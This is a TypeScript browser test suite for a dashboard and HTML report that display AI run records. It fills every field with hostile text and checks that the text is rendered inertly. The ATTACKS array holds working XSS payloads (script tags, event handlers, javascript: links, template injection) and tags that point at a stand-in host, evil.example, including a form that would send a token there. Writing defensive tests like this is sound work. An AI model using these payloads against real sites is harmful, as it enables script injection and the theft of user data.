import { beforeAll, describe, expect, test, vi } from "vitest";
import { writeReport } from "../../lib/dashboard/export.js";
import { CHROMIUM, dashboardBrowser, type OpenPage } from "./browser.js";
import { evaluationOf, recordOf, stepOf, writeRun } from "./run-files.js";

vi.setConfig({ testTimeout: 120_000 });
const { scratch, serve, open, files } = dashboardBrowser();

/** Each would run, load, close or turn round something if it were more than text. */
const ATTACKS = [
  `<script>window.hacked = 1</script>`,
  `<img src=x onerror="window.hacked = 2"><svg onload="window.hacked = 3">`,
  `"><iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>`,
  `</script><script>window.hacked = 5</script><!--`,
  `javascript:window.hacked=6//`,
  `<a href="javascript:window.hacked=7" autofocus onfocus="window.hacked=8">x</a>`,
  `<style>*{background:url(https://evil.example/x)}</style><link rel=stylesheet href=https://evil.example/y>`,
  `<base href="https://evil.example/"><form action="https://evil.example/"><input name=token></form>`,
  `{{constructor.constructor('window.hacked=9')()}} \${window.hacked=10} $& $1 %3Cscript%3E`,
];
/** Three at a time: each run takes seconds to look at. */
const TEXTS = [0, 3, 6].map((i) => ATTACKS.slice(i, i + 3).join(" "));
const BIDI = "abc\u202edcba\u2066x\u200e\u200f\u061c end";
const CONTROLS = "a\u0000b\u0007c\u001b[31md\u007f\u0085\u2028\u2029\ufeff\u{e0041}z";
const COMBINING = `z${"\u0300".repeat(300)}`;
const LONE = "\ud800 lone \udc00";

/** A run in which every text is hostile. */
async function hostileRun(text: string, folder: string, huge = ""): Promise<void> {
  const all = text + huge;
  const record = recordOf(
    "0-0-0",
    {
      question: { id: text, question: all, goldAnswers: [text, `${text} 2`], metadata: { [text]: all } },
      searches: [
        {
          query: all,
          passages: [
            { id: text, title: all, text: all },
            { id: text, title: "", text: `Ada ${text}` },
          ],
          start: 2,
          end: 4,
        },
      ],
      answer: all,
      reason: all,
    },
    { critique: { status: "ok", text: all.slice(0, 8000), raw: all }, components: { [text]: 1 } },
  );
  const pieces = (record.pieces as string[]).map((_, i) => (i === 0 ? all : text));
  const failed = recordOf("0-0-1", {}, { critique: { status: "refused", reason: all } });
  await writeRun(
    folder,
    [stepOf(0), evaluationOf(1, [1, 0], text.slice(0, 40))],
    [
      { ...record, pieces },
      { ...failed, id: `0-0-1${text}`.slice(0, 150), critique: { status: text, reason: text } },
      { ...recordOf("0-0-2"), status: "answered", components: text },
    ],
    { steps: 1, seed: text, participants: { policy: text }, distillation: { [text]: text } },
  );
}

/** Looks at every view, opens all that can be opened, and expects nothing but text. */
async function expectTextAlone({ page, complaints, requests }: OpenPage, base: string, run: string) {
  const parameters = `run=${encodeURIComponent(run)}`;
  for (const [path, ready] of [
    ["#/", ".runs tbody tr"],
    [`#/run?${parameters}`, ".tiles"],
    [`#/trajectories?${parameters}&id=0-0-0`, ".trajectory"],
    [`#/trajectories?${parameters}`, ".row"],
  ] as const) {
    await page.goto(`${base}${path}`);
    await page.locator(ready).first().waitFor();
    for (const details of await page.locator("summary").all())
      if (await details.isVisible()) await details.click();
    for (const token of (await page.locator(".token").all()).slice(0, 3)) await token.hover();
    expect(await page.evaluate("window.hacked")).toBeUndefined();
    // What the page itself is made of, and nothing else.
    const foreign =
      "script:not(#report), iframe, object, embed, base, img, svg, link[href^=http], #main form, #main style";
    const found = await page.evaluate(
      `[...document.querySelectorAll(${JSON.stringify(foreign)})].map((e) => e.outerHTML.slice(0, 80))`,
    );
    expect(found).toEqual(
      base.startsWith("file:")
        ? [expect.stringMatching(/^<script>/)]
        : ['<script src="page.js" defer=""></script>'],
    );
    const handlers = `[...document.querySelectorAll("*")].filter((e) => e.getAttributeNames().some((name) => name.startsWith("on"))).length`;
    expect(await page.evaluate(handlers)).toBe(0);
  }
  for (const row of await page.locator(".row").all()) {
    await row.click();
    await page.locator(".trajectory, .panel .empty").first().waitFor();
  }
  expect(await page.evaluate("window.hacked")).toBeUndefined();
  expect(complaints).toEqual([]);
  expect(requests.filter((request) => new URL(request).hostname.includes("evil"))).toEqual([]);
}

describe.skipIf(CHROMIUM === undefined)("hostile text in every field", () => {
  beforeAll(async () => {
    for (const [i, text] of TEXTS.entries()) await hostileRun(text, scratch(`attacks/${i}`));
  });

  test.each(TEXTS.map((text, i) => [text, i] as const))("%s is text", async (text, i) => {
    const { url } = await serve(scratch(`attacks/${i}`));
    const opened = await open(url);
    await expectTextAlone(opened, `${url}/`, String(i));
    await opened.page.goto(`${url}/#/trajectories?run=${i}&id=0-0-0`);
    await expect.poll(() => opened.page.locator("#question").textContent()).toBe(text);
  });

  test("and so it is in a report, which it cannot end or change", async () => {
    const file = scratch("report.html");
    await writeReport([scratch("attacks")], file, { maxTrajectories: 10 }, files());
    const opened = await open(`file://${file}`);
    for (const i of TEXTS.keys()) await expectTextAlone(opened, `file://${file}`, String(i));
    await opened.page.goto(`file://${file}#/trajectories?run=1&id=0-0-0`);
    await expect.poll(() => opened.page.locator("#question").textContent()).toBe(TEXTS[1]);
  });

  test("marks that reorder or hide text are shown by their number, and text stays within its bounds", async () => {
    await hostileRun(`${BIDI}${CONTROLS}${COMBINING}${LONE}`, scratch("marks"));
    const { url } = await serve(scratch("marks"));
    const opened = await open(url);
    await expectTextAlone(opened, `${url}/`, "marks");
    const { page } = opened;
    await page.goto(`${url}/#/trajectories?run=marks&id=0-0-0`);
    await page.locator("#question .hidden-character").first().waitFor();
    const shown = await page.locator("#question .hidden-character").allTextContents();
    expect(shown).toEqual([
      ..."202E 2066 200E 200F 061C 0000 0007 001B 007F 0085 2028 2029 FEFF E0041"
        .split(" ")
        .map((code) => `U+${code}`),
    ]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(await page.locator("body").textContent()).not.toMatch(/[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/);
    // Nothing reads from right to left but what is isolated.
    expect(await page.evaluate(`document.querySelectorAll("bdi[dir=auto]").length > 20`)).toBe(true);
    expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
  });

  test("a megabyte without a space in every field neither breaks the page nor holds it up", async () => {
    await hostileRun("<b>", scratch("huge"), "W".repeat(2 ** 20));
    const { url } = await serve(scratch("huge"));
    const opened = await open(url);
    const start = performance.now();
    await expectTextAlone(opened, `${url}/`, "huge");
    expect(performance.now() - start).toBeLessThan(30_000);
    await opened.page.goto(`${url}/#/trajectories?run=huge&id=0-0-0`);
    await expect.poll(() => opened.page.locator("#question").textContent()).toContain("more characters");
    expect(await opened.page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
  });
});
